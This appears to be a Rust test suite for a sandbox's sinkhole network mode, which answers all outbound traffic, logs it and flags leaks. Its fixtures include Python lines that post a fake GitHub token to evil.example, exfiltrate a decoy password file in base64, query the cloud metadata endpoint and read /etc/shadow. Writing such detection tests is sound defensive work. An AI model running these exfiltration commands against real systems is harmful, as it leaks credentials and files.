//! A network that answers: clients go on as if somebody were there, what they send is told, and nothing leaves.

use serde_json::Value;
use turnkey_expectations::expected;
use turnkey_tests::{Ran, Run, Server, network_of_its_own, outside};

expected!(
    what_is_posted_in_vain_elsewhere_is_answered_and_told,
    two_processes_that_talk_to_one_place_at_once_are_told_apart,
    rules_about_addresses_go_on:
    on[BY_DAY, ORDINARY_6_12, OLDEST_6_1]
);
expected!(
    any_address_and_port_answers_and_is_the_one_that_was_asked_for,
    datagrams_are_taken_and_the_usual_ones_answered:
    on[ORDINARY_6_12, OLDEST_6_1]
);

/// A run whose every connection is answered.
fn sinking() -> Run {
    Run::new().option("--network sinkhole")
}

/// Records of the conversations with a peer, by its name or address.
fn with<'r>(ran: &'r Ran, peer: &str) -> Vec<&'r Value> {
    let all = ran.list("/sinkhole/conversations").iter();
    let is_meant = |one: &&Value| one["name"] == peer || one["address"] == peer;
    all.filter(is_meant).collect()
}

/// The only conversation with a peer.
#[track_caller]
fn only<'r>(ran: &'r Ran, peer: &str) -> &'r Value {
    match with(ran, peer).as_slice() {
        [one] => one,
        found => {
            ran.expect(
                false,
                &format!("one conversation with {peer}, not {}", found.len()),
            );
            &Value::Null
        }
    }
}

fn has(value: &Value, part: &str) -> bool {
    value.as_str().is_some_and(|text| text.contains(part))
}

/// Posts a secret to a host, and says how that went.
const POST: &str = "import urllib.request
try:
    body = b'loot=ghp_0123456789abcdefghijABCDEFGHIJ012345'
    answer = urllib.request.urlopen('https://evil.example/upload', body, 5)
    print(answer.status, answer.read())
except OSError as e:
    print('failed')";

/// From a file, so that the secret is in no argument.
fn post(run: Run) -> Ran {
    run.file("post.py", POST).run(&["python3", "post.py"])
}

#[test]
fn what_is_posted_in_vain_elsewhere_is_answered_and_told() {
    let control = post(Run::new());
    control.expect(
        control.stdout == "failed\n",
        "the control: there is no network",
    );
    let report = control.report.to_string();
    control.expect(
        !report.contains("loot"),
        "and what would be sent is not known",
    );
    let ran = post(sinking());
    ran.expect_code(0);
    ran.expect(ran.stdout.starts_with("200 "), "it was answered");
    let told = only(&ran, "evil.example");
    ran.expect(
        told["protocol"] == "HTTPS" && told["request"] == "POST /upload",
        "which request",
    );
    ran.expect(has(&told["address"], "198.18."), "whom it asked for");
    ran.expect(
        has(&told["content"], "loot=[redacted: github-token]"),
        "what it sent",
    );
    ran.expect(
        told["secrets"][0] == "a credential (github-token)",
        "that it was a secret",
    );
    ran.expect(has(&told["programs"][0]["exe"], "python3"), "who did");
    ran.expect(
        !ran.report.to_string().contains("ghp_0123"),
        "the secret is not repeated",
    );
    ran.expect(ran.at("/verdict") == "violated", "a secret was sent");
    let finding = &ran.list("/findings")[0];
    ran.expect(
        finding["id"] == "behaviour:exfiltration",
        "which is exfiltration",
    );
    ran.expect(
        ran.stderr
            .contains("evil.example:443 (HTTPS POST /upload), in them a credential"),
        "the terminal tells it",
    );
    let open = post(sinking().option("--no-redact"));
    let content = &only(&open, "evil.example")["content"];
    open.expect(
        has(content, "loot=ghp_0123"),
        "whoever wants the secret has it",
    );
}

#[test]
fn a_client_has_the_type_and_the_protocol_that_it_asks_for() {
    let ran = sinking().python(
        "import json, socket, ssl, urllib.request
def get(accept):
    asked = urllib.request.Request('https://api.example/v1/x', headers={'Accept': accept})
    return urllib.request.urlopen(asked, timeout=5).read()
print(json.loads(get('*/*'))['status'], json.loads(get('application/json'))['status'], get('text/html,*/*')[:15])
for offered in (['h2', 'http/1.1'], ['h2'], []):
    context = ssl.create_default_context()
    context.set_alpn_protocols(offered)
    plain = socket.create_connection(('api.example', 443), 5)
    sealed = context.wrap_socket(plain, server_hostname='api.example')
    sealed.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
    print(sealed.selected_alpn_protocol(), sealed.recv(12))",
    );
    ran.expect_code(0);
    let expected = "ok ok b'<!doctype html>'\n\
                    http/1.1 b'HTTP/1.1 200'\n\
                    None b'HTTP/1.1 200'\n\
                    None b'HTTP/1.1 200'\n";
    ran.expect(ran.stdout == expected, "what it asks for");
}

#[test]
fn requests_of_one_connection_are_told_apart() {
    let ran = sinking().python(
        "import http.client
server = http.client.HTTPConnection('plain.example', 8080, timeout=5)
for method, path, body in (('GET', '/a.json', None), ('PUT', '/b', b'content'), ('HEAD', '/b.html', None)):
    server.request(method, path, body)
    answer = server.getresponse()
    print(answer.status, answer.getheader('Content-Type'), answer.read())
server.request('POST', '/pieces', iter([b'first ', b'second']), encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})
print(server.getresponse().read())",
    );
    ran.expect_code(0);
    let lines: Vec<&str> = ran.stdout.lines().collect();
    ran.expect(lines[0] == "200 application/json b'{}\\n'", "by its ending");
    ran.expect(
        lines[2] == "200 text/html; charset=utf-8 b''",
        "a head has no body",
    );
    let told = with(&ran, "plain.example");
    let requests: Vec<_> = told.iter().map(|one| &one["request"]).collect();
    ran.expect(
        requests == ["GET /a.json", "PUT /b", "HEAD /b.html", "POST /pieces"],
        "each request",
    );
    ran.expect(has(&told[1]["content"], "content"), "with its body");
    ran.expect(has(&told[3]["content"], "first second"), "put together");
    ran.expect(ran.at("/verdict") == "clean", "nothing of it is an attack");
}

expected!(
    clients_of_other_makers_trust_the_authority: not_on[ORDINARY_6_12],
    "curl, node and openssl are programs as others"
);
#[test]
fn clients_of_other_makers_trust_the_authority() {
    let ran = sinking().option("--memory 1G").shell(
        "curl -sS -d from-curl -H 'Expect: 100-continue' https://curl.example/x.txt || echo curl failed
node -e 'require(\"https\").get(\"https://node.example/\", a => { console.log(a.statusCode); a.resume() })' || echo node failed
curl -sS https://203.0.113.9/ >/dev/null || echo address failed
env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS https://file.example/x.txt || echo file failed",
    );
    ran.expect(!ran.stdout.contains("failed"), "each trusted it");
    ran.expect(ran.stdout.contains("200"), "node was answered");
    ran.expect(
        has(&only(&ran, "curl.example")["content"], "from-curl"),
        "what curl sent",
    );
    for peer in ["node.example", "203.0.113.9:443", "file.example"] {
        ran.expect(only(&ran, peer)["protocol"] == "HTTPS", peer);
    }
}

#[test]
fn a_client_that_trusts_somebody_else_is_told_with_its_name() {
    let ran = sinking().python(
        "import socket, ssl
strict = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
peer = socket.create_connection(('pinned.example', 8443), 5)
try:
    strict.wrap_socket(peer, server_hostname='pinned.example').send(b'never sent')
except ssl.SSLCertVerificationError as e:
    print('refused')",
    );
    ran.expect(ran.stdout == "refused\n", "the control: it does not trust");
    let told = only(&ran, "pinned.example");
    ran.expect(
        told["distrusts_certificate"] == true && told["protocol"] == "TLS",
        "told",
    );
    ran.expect(has(&told["content"], "pinned.example"), "with its greeting");
    ran.expect(
        ran.stderr
            .contains("did not trust the sinkhole's certificate"),
        "to people too",
    );
}

/// Connects in the ways of the C library, and looks at its peer.
const CLIENT: &str = r#"
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static void talk(const char *host, const char *port) {
    struct addrinfo want = {.ai_socktype = SOCK_STREAM}, *found;
    if (getaddrinfo(host, port, &want, &found)) { printf("%s unknown\n", host); return; }
    int peer = socket(found->ai_family, SOCK_STREAM, 0);
    if (connect(peer, found->ai_addr, found->ai_addrlen)) { perror(host); return; }
    struct sockaddr_storage seen; socklen_t size = sizeof seen;
    getpeername(peer, (void *)&seen, &size);
    int same = size == found->ai_addrlen && !memcmp(&seen, found->ai_addr, 8);
    printf("%s %s\n", host, same ? "as asked" : "another");
    write(peer, "\x01\x02raw bytes", 11);
    close(peer);
}
int main(void) {
    talk("198.51.100.77", "47111");
    talk("2001:db8:1::9", "65535");
    talk("named.example", "5555");
    return 0;
}
"#;

#[test]
fn any_address_and_port_answers_and_is_the_one_that_was_asked_for() {
    let ran = sinking().compiled("client", CLIENT).run(&["./client"]);
    ran.expect_code(0);
    let all = "198.51.100.77 as asked\n2001:db8:1::9 as asked\nnamed.example as asked\n";
    ran.expect(ran.stdout == all, "getpeername(2)");
    for peer in [
        "198.51.100.77:47111",
        "[2001:db8:1::9]:65535",
        "named.example",
    ] {
        let told = only(&ran, peer);
        ran.expect(told["protocol"] == "TCP" && told["sent_bytes"] == 11, peer);
        ran.expect(has(&told["content"], "raw bytes"), peer);
        ran.expect(has(&told["programs"][0]["exe"], "/client"), "who");
    }
}

#[test]
fn datagrams_are_taken_and_the_usual_ones_answered() {
    let ran = sinking().python(
        "import socket, struct
socket.setdefaulttimeout(5)
asked = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x04data\\x06tunnel\\x07example\\0\\0\\x01\\0\\x01'
by_hand = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
by_hand.sendto(asked, ('8.8.8.8', 53))
answer, server = by_hand.recvfrom(512)
print(server, answer[:2] == asked[:2], answer[-4:-2] == b'\\xc6\\x12', socket.gethostbyname('data.tunnel.example') == '.'.join(map(str, answer[-4:])))
stream = socket.create_connection(('9.9.9.9', 53))
stream.sendall(struct.pack('>H', len(asked)) + asked)
size, = struct.unpack('>H', stream.recv(2))
print(stream.recv(512) == answer)
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
six.connect(('2001:db8::123', 123))
six.send(b'\\x23' + bytes(47))
print(len(six.recv(512)), six.getpeername()[0])
by_hand.sendto(b'beacon 1', ('203.0.113.5', 4000))
by_hand.sendto(b'beacon 2', ('203.0.113.5', 4000))",
    );
    ran.expect_code(0);
    ran.expect(
        ran.stdout == "('8.8.8.8', 53) True True True\nTrue\n48 2001:db8::123\n",
        "each is answered by whom it asked",
    );
    let told = only(&ran, "203.0.113.5:4000");
    ran.expect(
        told["protocol"] == "UDP" && told["content"] == "beacon 1beacon 2",
        "kept",
    );
    ran.expect(
        only(&ran, "[2001:db8::123]:123")["protocol"] == "NTP",
        "the time",
    );
    ran.expect(
        ran.at("/sinkhole/questions").as_u64() >= Some(3),
        "questions are counted",
    );
    let names = ran.list("/network_attempts").iter().map(|row| &row["name"]);
    let is_asked = |name: &Value| name == "data.tunnel.example";
    ran.expect(names.into_iter().any(is_asked), "and told by name as ever");
}

#[test]
fn a_server_that_speaks_first_does_and_a_client_that_waits_is_greeted() {
    let ran = sinking().python(
        "import smtplib, socket, threading
socket.setdefaulttimeout(5)
waiting = socket.create_connection(('198.51.100.1', 7777))
mail = smtplib.SMTP('mail.example', 587)
mail.sendmail('me@here.example', ['you@there.example'], 'Subject: x\\n\\nthe stolen plans')
mail.quit()
sealed = smtplib.SMTP_SSL('sealed.example')
sealed.sendmail('me@here.example', ['you@there.example'], 'more plans')
sealed.quit()
print(socket.create_connection(('198.51.100.1', 22)).recv(99)[:8])
store = socket.create_connection(('198.51.100.1', 6379))
store.sendall(b'*1\\r\\n$4\\r\\nPING\\r\\n')
print(store.recv(99)[:1])
print(waiting.recv(99))",
    );
    ran.expect_code(0);
    ran.expect(
        ran.stdout == "b'SSH-2.0-'\nb'+'\nb'220 ready\\r\\n'\n",
        "each is greeted",
    );
    let mail = only(&ran, "mail.example");
    ran.expect(
        mail["protocol"] == "SMTP" && has(&mail["content"], "the stolen plans"),
        "a mail",
    );
    let sealed = only(&ran, "sealed.example");
    ran.expect(
        sealed["protocol"] == "SMTP" && has(&sealed["content"], "more plans"),
        "a mail under TLS",
    );
    ran.expect(
        only(&ran, "198.51.100.1:6379")["protocol"] == "Redis",
        "a store",
    );
}

#[test]
fn a_decoy_that_leaves_is_told_however_it_is_encoded() {
    let decoys = "[filesystem]\ndecoys = [\"/etc/passwords.txt\"]\n";
    let send = "import base64, sys, urllib.request
loot = open('/etc/passwords.txt', 'rb').read()
urllib.request.urlopen('https://plain.example/a', loot, 5)
urllib.request.urlopen('https://coded.example/b', base64.b64encode(b'xx' + loot), 5)";
    let ran = sinking().profile(decoys).python(send);
    ran.expect_code(0);
    for peer in ["plain.example", "coded.example"] {
        let told = only(&ran, peer);
        ran.expect(told["secrets"][0] == "the decoy /etc/passwords.txt", peer);
    }
    let finding = &ran.list("/findings")[0];
    ran.expect(finding["id"] == "behaviour:exfiltration", "the finding");
    ran.expect(finding["severity"] == "critical", "is grave");
    let words = "sent the decoy /etc/passwords.txt to plain.example:443 (HTTPS POST /a)";
    ran.expect(
        finding["evidence"].to_string().contains(words),
        "and says where to",
    );
}

#[test]
fn nothing_leaves() {
    network_of_its_own();
    let (server, local) = (
        Server::echo(8443),
        std::net::UdpSocket::bind("0.0.0.0:4000"),
    );
    let local = local.expect("the port is free in a new network");
    local.set_nonblocking(true).expect("a socket of ours");
    let go = "import socket
for host in ('203.0.113.7', '10.9.0.1', '2001:db8::7'):
    socket.create_connection((host, 8443), 5).sendall(b'out')
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'out', ('203.0.113.7', 4000))
print(open('/proc/net/dev').read().count(':'))";
    let (status, _) = outside("python3", &["-c", go]);
    assert!(
        status.success(),
        "the control: outside all of them are reached"
    );
    assert!(
        local.recv(&mut [0; 9]).is_ok(),
        "the control: datagrams, too"
    );
    turnkey_tests::eventually("the control came", || server.came() == 3);
    let ran = sinking().python(go);
    ran.expect_code(0);
    ran.expect(ran.stdout == "1\n", "the jail has nothing but its loopback");
    ran.expect(
        ran.list("/sinkhole/conversations").len() == 4,
        "all was taken",
    );
    ran.expect(server.came() == 3, "nobody came");
    ran.expect(local.recv(&mut [0; 9]).is_err(), "nor a datagram");
}

#[test]
fn two_hundred_connections_at_once_are_taken() {
    let ran = sinking().option("--open-files 512").python(
        "import socket
peers = []
for number in range(200):
    peers.append(socket.create_connection(('crowd.example', 9000 + number), 5))
    # At once: whoever says nothing for a while is greeted.
    peers[-1].sendall(b'GET /%d HTTP/1.0\\r\\n\\r\\n' % number)
print(sum(peer.recv(999).startswith(b'HTTP/1.1 200') for peer in peers))",
    );
    ran.expect(ran.stdout == "200\n", "each was answered");
    ran.expect(with(&ran, "crowd.example").len() == 200, "and told");
}

#[test]
fn a_flood_is_bounded_and_so_is_a_client_that_never_reads() {
    let ran = sinking().python(
        "import socket
sent = 0
flood = socket.create_connection(('flood.example', 4444), 5)
try:
    while sent < 1 << 26:
        sent += flood.send(b'x' * (1 << 16))
except OSError:
    pass
print(sent < 1 << 26)
deaf = socket.create_connection(('deaf.example', 80), 0.3)
try:
    while True:
        deaf.sendall(b'GET /page HTTP/1.1\\r\\n\\r\\n' * 1000)
except OSError:
    print('full')",
    );
    ran.expect_code(0);
    ran.expect(ran.stdout == "True\nfull\n", "both were held up");
    let flood = only(&ran, "flood.example");
    ran.expect(
        flood["cut"] == true && flood["content_truncated"] == true,
        "which is told",
    );
    let kept = flood["content"].as_str().map_or(0, str::len);
    ran.expect(kept < 4096, "little of it is kept");
    let (rows, unlisted) = (
        ran.list("/sinkhole/conversations").len(),
        ran.at("/sinkhole/unlisted"),
    );
    ran.expect(rows <= 1024, "the list is bounded");
    ran.expect(
        rows < 1024 || unlisted.as_u64() > Some(0),
        "and says so when it is full",
    );
}

#[test]
fn what_was_sent_before_a_kill_is_told() {
    let ran = sinking().python(
        "import socket
socket.create_connection(('late.example', 4000), 5).sendall(b'last words')
open('/etc/shadow')",
    );
    ran.expect_code(121);
    ran.expect(
        only(&ran, "late.example")["content"] == "last words",
        "told",
    );
}

#[test]
fn rules_about_addresses_go_on() {
    let ran = sinking().python(
        "import urllib.request
print(urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', None, 5).status)",
    );
    ran.expect(ran.stdout == "200\n", "it is answered");
    let violation = &ran.violations()[0];
    ran.expect(
        violation["rule"] == "network-guarded" && violation["severity"] == "high",
        "told",
    );
    ran.expect(
        only(&ran, "169.254.169.254:80")["request"] == "GET /latest/meta-data/",
        "kept",
    );
    let killing = "[[rule]]\nid = \"own\"\non = \"connect\"\naddress = [\"203.0.113.0/24\"]\naction = \"kill\"\nwhy = \"x\"\n";
    let connect = "import socket
socket.create_connection(('203.0.113.1', 80), 5)";
    let ran = sinking().profile(killing).python(connect);
    ran.expect_code(121);
    ran.expect(
        ran.list("/sinkhole/conversations").is_empty(),
        "and nobody answers",
    );
}

#[test]
fn the_jails_own_servers_are_its_own() {
    let ran = sinking().python(
        "import socket
own = socket.create_server(('127.0.0.1', 8000))
client = socket.create_connection(('127.0.0.1', 8000), 5)
own.accept()[0].sendall(b'own')
print(client.recv(9))
try:
    socket.create_connection(('127.0.0.1', 8001), 5)
except ConnectionRefusedError:
    print('refused')",
    );
    ran.expect(
        ran.stdout == "b'own'\nrefused\n",
        "its loopback is no part of it",
    );
    ran.expect(ran.list("/sinkhole/conversations").is_empty(), "nor told");
}

#[test]
fn without_privileges_it_is_refused_with_the_way_out() {
    let ran = Run::rootless().option("--network sinkhole").shell("true");
    ran.expect_code(125);
    ran.expect(ran.stderr.contains("needs root"), "why");
    ran.expect(ran.stderr.contains("--service"), "and what helps");
}

#[test]
fn nobody_has_to_watch() {
    let ran = post(sinking().option("--unmonitored"));
    ran.expect(ran.stdout.starts_with("200 "), "it was answered");
    ran.expect(
        only(&ran, "evil.example")["request"] == "POST /upload",
        "and told",
    );
}

/// Sends a word to one place over TCP, on a connected and on an unconnected datagram socket.
const SPEAK: &str = "import socket, sys
word = sys.argv[1].encode()
place = ('192.0.2.9', 4000)
stream = socket.create_connection(place, 5)
joined = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
joined.connect(place)
loose = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sys.stdin.readline()
stream.sendall(b'stream ' + word)
joined.send(b'joined ' + word)
loose.sendto(b'loose ' + word, place)
for one in (stream, joined, loose): one.close()
";

#[test]
fn two_processes_that_talk_to_one_place_at_once_are_told_apart() {
    let both =
        "for word in first second; do { sleep 0.3; echo; } | python3 speak.py $word & done; wait";
    let ran = sinking().file("speak.py", SPEAK).run(&["sh", "-c", both]);
    ran.expect_code(0);
    let told = with(&ran, "192.0.2.9:4000");
    ran.expect(told.len() == 6, "three conversations of each");
    for one in told {
        let [id] = one["exec_ids"].as_array().map_or(&[][..], Vec::as_slice) else {
            ran.expect(false, &format!("one process: {one}"));
            continue;
        };
        let mut rows = ran.list("/processes").iter();
        let row = rows.find(|row| row["exec_id"] == *id);
        let word = row.and_then(|row| row["argv"][2].as_str());
        let own = word.is_some_and(|word| has(&one["content"], &format!(" {word}")));
        ran.expect(own, &format!("whose word it is: {one}"));
    }
}

/// The socket of a parent, on which a child sends.
const SHARE: &str = "import os, socket
place = ('192.0.2.9', 4000)
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
if os.fork() == 0:
    one.sendto(b'child', place)
    os._exit(0)
os.wait()
one.sendto(b'parent', place)
stream = socket.create_connection(('192.0.2.9', 4001))
if os.fork() == 0:
    stream.sendall(b'child')
    os._exit(0)
os.wait()
";

#[test]
fn a_socket_of_two_processes_has_those_who_named_the_address() {
    let ran = sinking().python(SHARE);
    ran.expect_code(0);
    let ids = |peer: &str| only(&ran, peer)["exec_ids"].as_array().map(Vec::len);
    ran.expect(ids("192.0.2.9:4000") == Some(2), "both have sent on it");
    ran.expect(ids("192.0.2.9:4001") == Some(1), "one has opened it");
}
